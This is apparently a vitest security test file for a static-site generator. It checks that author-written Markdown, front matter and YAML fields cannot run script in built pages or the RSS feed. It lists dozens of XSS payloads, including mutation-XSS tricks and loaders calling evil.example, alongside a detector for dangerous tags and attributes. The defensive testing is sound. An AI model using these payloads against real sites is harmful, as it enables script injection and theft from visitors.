/** Nothing that an author writes runs in a visitor's browser: C051, C097, C098 and every trick that we know. */
import { type DefaultTreeAdapterTypes, parse, parseFragment } from "parse5";
import { beforeAll, describe, expect, test } from "vitest";
import { builtShop, partner, post, runAlone, type Shop } from "./support.ts";

runAlone();

const TRICKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<img src=x onerror=alert(1)>",
  '<img src="x" OnErRoR="alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  "<img src='javascript:alert(1)'>",
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  "<a href='  javascript:alert(1)'>x</a>",
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="https://example.com" onmouseover="alert(1)">x</a>',
  '<a href="https://example.com" style="position:fixed;inset:0">x</a>',
  '<a href="https://example.com" ping="https://evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  '<video src=x onerror=alert(1) poster="javascript:alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  "<template><script>alert(1)</script></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--><script>alert(1)</script>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo 1 ?><img src=x onerror=alert(1)>",
  '<site-island data-src="https://evil.example/x.js" data-island="x"></site-island>',
  '<script type="application/json">{"a":1}</script>',
  '<div id="cookie" name="getElementById"></div>',
  '<a id="top" name="top" href="#top">x</a>',
  '<p slot="x" is="y" part="z">x</p>',
  "`<img src=x onerror=alert(1)>` <img src=x onerror=alert(1) ",
  '[x](https://example.com "\\" onmouseover=alert(1)")',
  '![\\" onerror=alert(1) x=\\"](/images/wall.png)',
  "[<img src=x onerror=alert(1)>](https://example.com)",
  "<b <script>alert(1)</script>>x</b>",
  '<a href=https://example.com/"onmouseover="alert(1)>x</a>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  "<div><div contenteditable onblur=alert(1) tabindex=1 autofocus>x</div>",
  "</main></body><script>alert(1)</script>",
  "</article><form action=https://evil.example><input name=a>",
];

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

function elementsIn(node: Node): Element[] {
  const own = "tagName" in node ? [node] : [];
  const inner = "childNodes" in node ? node.childNodes.flatMap(elementsIn) : [];
  const template = "content" in node ? node.content.childNodes.flatMap(elementsIn) : [];
  return [...own, ...inner, ...template];
}

const ADDRESSES = /^(href|src|srcset|action|formaction|poster|data|background|cite|xlink:href|ping)$/;
const REFUSED_ELEMENTS =
  /^(iframe|object|embed|form|style|link|meta|base|template|svg|math|noscript|textarea|frame|applet|button|select)$/;

/** Everything in a finished page that could run or load something, beside what the templates put there. */
function dangersIn(html: string, isPage: boolean): string[] {
  const root = isPage ? parse(html) : parseFragment(html);
  const main = isPage ? elementsIn(root).find(({ tagName }) => tagName === "main") : root;
  const all = main ? elementsIn(main as Node) : [];
  return all.flatMap(({ tagName, attrs }) => [
    ...(tagName === "script" || REFUSED_ELEMENTS.test(tagName) ? [`<${tagName}>`] : []),
    ...attrs.flatMap(({ name, value }) => {
      if (/^on|^(style|srcdoc|is|slot|ping|http-equiv|contenteditable|autofocus)$/.test(name))
        return [`${tagName} ${name}=${value}`];
      const bare = value.replace(/[\u0000-\u0020]/g, "");
      const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(bare)?.[1]?.toLowerCase();
      return ADDRESSES.test(name) && scheme && !/^(https?|mailto|tel)$/.test(scheme)
        ? [`${tagName} ${name}=${value}`]
        : [];
    }),
  ]);
}

describe("Raw HTML in Markdown", () => {
  let site: Shop;
  const failures = new Map<number, string>();

  beforeAll(async () => {
    // Tricks that are refused as a whole stop a build; they are taken out and the rest is built.
    const file = (index: number) => `content/posts/trick-${index}.md`;
    site = await builtShop(
      Object.fromEntries(
        TRICKS.map((trick, index) => [
          file(index),
          post({ title: `Trick ${index}` }, `Before\n\n${trick}\n\nAfter ${trick}\n`),
        ]),
      ),
    );
    const { code, stderr } = await site.site(["build"]);
    expect(stderr).not.toMatch(/^ {4}at /m);
    if (code === 0) return;
    for (const index of TRICKS.keys()) {
      if (!new RegExp(`^${file(index)}\\S*  error`, "m").test(stderr)) continue;
      failures.set(index, stderr);
      site.remove(file(index));
    }
    const second = await site.site(["build"]);
    expect(second.code, second.stderr).toBe(0);
  });

  test.each(TRICKS.map((trick, index) => [index, trick] as const))("does nothing, number %i: %s", (index) => {
    if (failures.has(index)) return;
    const page = site.read(`dist/blog/trick-${index}/index.html`);
    expect(dangersIn(page, true)).toEqual([]);
    // The page goes on behind it, inside of its own frame.
    const bodies = elementsIn(parse(page)).filter(
      ({ tagName }) => tagName === "main" || tagName === "footer",
    );
    expect(bodies).toHaveLength(2);
  });

  test("does nothing in a feed reader either", () => {
    const feed = site.read("dist/feed.xml");
    const contents = [...feed.matchAll(/<content:encoded>([\s\S]*?)<\/content:encoded>/g)].map(
      ([, text = ""]) => text.replace(/^<!\[CDATA\[|\]\]>$/g, "").replaceAll("]]]]><![CDATA[>", "]]>"),
    );
    expect(contents.length).toBeGreaterThan(TRICKS.length / 3);
    for (const html of contents) expect(dangersIn(html, false), html).toEqual([]);
  });
});

describe("Markup in a field", () => {
  const MARKUP = `"><img src=x onerror=alert(1)></title></script><script>alert(1)</script><!--'&amp;`;
  const YAML = JSON.stringify(MARKUP);
  let site: Shop;

  beforeAll(async () => {
    site = await builtShop({
      "content/posts/markup.md": post({
        title: YAML,
        excerpt: YAML,
        author: YAML,
        tags: `[${YAML}]`,
        image: "/images/wall.png",
      }),
      "content/partners/markup.yaml": partner({ name: YAML, description: YAML }),
      "content/projects/markup.yaml": `title: ${YAML}\ncategory: ${YAML}\ndescription: ${YAML}\nimage: /images/wall.png\ntags: [${YAML}]\nlink: https://example.com/?a="><script>alert(1)</script>\n`,
      "content/pages/markup.yaml": `title: ${JSON.stringify(`${MARKUP} page`)}\nexcerpt: ${YAML}\nsections:\n  - type: note\n    heading: ${YAML}\n    text: T\n    cta:\n      label: ${YAML}\n      href: /contact\n`,
    });
    const settings = site.read("content/site.yaml");
    site.write({
      "content/site.yaml": settings
        .replace("name: Example Shop", `name: ${YAML}`)
        .replace("send: Send", `send: ${YAML}`),
    });
    const { code, stderr } = await site.site(["build"]);
    expect(code, stderr).toBe(0);
  });

  test("is text on every page: in titles, attributes, lists and the props of islands", () => {
    for (const [path, html] of Object.entries(site.texts())) {
      if (!path.endsWith(".html")) continue;
      const all = elementsIn(parse(html));
      for (const { tagName, attrs } of all)
        expect(
          attrs.filter(({ name, value }) => name.startsWith("on") || value === "x"),
          `${path} <${tagName}>`,
        ).toEqual([]);
      expect(
        all.filter(({ tagName }) => tagName === "title"),
        path,
      ).toHaveLength(1);
      // The loader of islands is the engine's own; the page's policy names it by its digest.
      const scripts = all.filter(
        ({ tagName, attrs }) =>
          tagName === "script" && !attrs.some(({ name }) => name === "src" || name === "data-islands"),
      );
      for (const { attrs } of scripts)
        expect(attrs.find(({ name }) => name === "type")?.value, path).toMatch(/^application\/(ld\+)?json$/);
      expect(html, path).not.toMatch(/&amp;amp;amp;|&amp;quot;|&amp;lt;/);
    }
  });

  test("comes back out of every inline JSON as it went in", () => {
    const page = site.read("dist/blog/markup/index.html");
    const [, json = ""] = /<script type="application\/ld\+json">(.*?)<\/script>/.exec(page) ?? [];
    expect(json).not.toMatch(/[<>&\u2028\u2029]/);
    expect(JSON.parse(json)["@graph"][0]).toMatchObject({
      headline: MARKUP,
      description: MARKUP,
      keywords: MARKUP,
    });
    const contact = site.read("dist/contact/index.html");
    const [, props = ""] = /<script type="application\/json">(.*?)<\/script>/.exec(contact) ?? [];
    expect(props).not.toMatch(/[<>&]/);
    expect(JSON.parse(props)).toMatchObject({ send: MARKUP });
  });

  test("is text in the head as well, escaped once", () => {
    const head = elementsIn(parse(site.read("dist/blog/markup/index.html")));
    const metas = head
      .filter(({ tagName }) => tagName === "meta")
      .map(({ attrs }) => Object.fromEntries(attrs.map(({ name, value }) => [name, value])));
    const text = (key: string) =>
      metas.find(({ name, property }) => name === key || property === key)?.content;
    for (const key of ["description", "og:title", "og:description", "article:author", "article:tag"])
      expect(text(key), key).toBe(MARKUP);
  });

  test("is text in the feed", () => {
    const feed = site.read("dist/feed.xml");
    const [, title = ""] = /<item><title>(.*?)<\/title>/.exec(feed) ?? [];
    const decoded = title
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&quot;/g, '"')
      .replace(/&#39;|&apos;/g, "'")
      .replace(/&amp;/g, "&");
    expect(decoded).toBe(MARKUP);
  });
});
